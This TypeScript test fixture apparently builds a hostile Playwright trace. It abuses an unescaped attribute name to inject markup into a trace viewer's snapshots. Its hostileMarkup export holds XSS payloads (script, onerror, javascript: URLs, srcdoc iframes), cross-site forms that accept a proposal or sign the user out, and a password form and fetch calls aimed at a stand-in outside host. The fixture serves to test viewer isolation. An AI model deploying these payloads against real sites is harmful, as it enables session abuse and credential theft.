import { zipOf } from './zip.ts'

/** The only call of the trace. */
export const CALL = 'call@1'

/**
 * A Playwright trace whose snapshots contain this markup as it is: the viewer escapes texts and
 * values, but not the names of attributes. `resources` are answers that the snapshot may load.
 */
export function evilTrace(markup: string, resources: Record<string, Resource> = {}): Uint8Array {
  const frame = { pageId: 'page@1', frameId: 'frame@1', frameUrl: 'https://shop.example/', isMainFrame: true }
  const drawn = { viewport: { width: 640, height: 400 }, timestamp: 20, resourceOverrides: [] }
  const html = ['HTML', {}, ['HEAD', {}], ['BODY', {}, ['DIV', { [`a></div>${markup}<div b`]: '' }]]]
  const snapshot = (phase: string) => ({
    type: 'frame-snapshot',
    snapshot: { callId: CALL, phase, ...frame, ...drawn, html },
  })
  const lines = [
    {
      version: 10,
      type: 'context-options',
      origin: 'library',
      browserName: 'chromium',
      playwrightVersion: '1.65.1',
      options: { viewport: drawn.viewport },
      platform: 'linux',
      wallTime: 1_795_760_964_349,
      monotonicTime: 1,
      sdkLanguage: 'javascript',
      testIdAttributeName: 'data-testid',
    },
    {
      type: 'before',
      callId: CALL,
      startTime: 10,
      class: 'Frame',
      method: 'click',
      params: { selector: 'button' },
    },
    snapshot('before'),
    snapshot('action'),
    snapshot('after'),
    { type: 'after', callId: CALL, endTime: 30 },
  ]
  const network = Object.entries(resources).map(([url, { body, mimeType }], i) => ({
    type: 'resource-snapshot',
    snapshot: {
      _frameref: frame.frameId,
      _monotonicTime: 2,
      startedDateTime: '2026-11-27T00:00:00.000Z',
      time: 1,
      request: { url, method: 'GET', headers: [], queryString: [], cookies: [] },
      response: {
        status: 200,
        statusText: 'OK',
        headers: [],
        content: { size: body.length, mimeType, _file: `resources/${i}` },
      },
    },
  }))
  return zipOf({
    'trace.trace': lines.map((line) => `${JSON.stringify(line)}\n`).join(''),
    'trace.network': network.map((line) => `${JSON.stringify(line)}\n`).join(''),
    ...Object.fromEntries(Object.values(resources).map(({ body }, i) => [`resources/${i}`, body])),
  })
}

interface Resource {
  body: string
  mimeType: string
}

const EVIL = "top.document.title='owned';window.owned=1;fetch('ELSEWHERE/script')"
const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='

/** Everything that markup can do at once, or with a click, to the server `main` and the site `elsewhere`. */
export const hostileMarkup = ({
  main,
  elsewhere,
  proposal,
}: Record<'main' | 'elsewhere' | 'proposal', string>) =>
  `
<base href="ELSEWHERE/">
<script>EVIL</script>
<img src=x onerror="EVIL"><svg onload="EVIL"><script>EVIL</script><image href="ELSEWHERE/image"/></svg>
<link rel=prefetch href="ELSEWHERE/prefetch"><link rel=stylesheet href="ELSEWHERE/style">
<iframe srcdoc="<script>EVIL</script><form method=post action=ELSEWHERE/srcdoc><button>Nested</button></form>"></iframe>
<iframe src="ELSEWHERE/frame"></iframe><iframe src="javascript:EVIL"></iframe>
<iframe src="data:text/html,<script>EVIL</script>"></iframe>
<object data="ELSEWHERE/object"></object><embed src="ELSEWHERE/embed">
<form id=accept method=post enctype=text/plain action=MAIN/api/proposals/${proposal}/accept target=_top><button>Accept</button></form>
<form id=leave method=post enctype=text/plain action=MAIN/api/sign-out><button>Leave</button></form>
<form id=password method=post action=ELSEWHERE/password><input name=password value=typed><button>Log in</button></form>
<form id=search method=get action=ELSEWHERE/get target=_blank><button>Search</button></form>
<form id=run><button formaction="javascript:EVIL">Run</button></form>
<img usemap="#map" src="${GIF}" width=300 height=40>
<map name=map>
<area shape=rect coords="0,0,99,40" alt=Top target=_top href=ELSEWHERE/top ping="MAIN/api/sign-out ELSEWHERE/ping">
<area shape=rect coords="100,0,199,40" alt=Blank target=_blank href=ELSEWHERE/blank ping=MAIN/api/sign-out>
<area shape=rect coords="200,0,299,40" alt=Script href="javascript:EVIL"></map>`
    .replaceAll('EVIL', EVIL.replaceAll('"', '&quot;'))
    .replaceAll('ELSEWHERE', elsewhere)
    .replaceAll('MAIN', main)

/** The forms of that markup. */
export const FORMS = ['accept', 'leave', 'password', 'search', 'run']
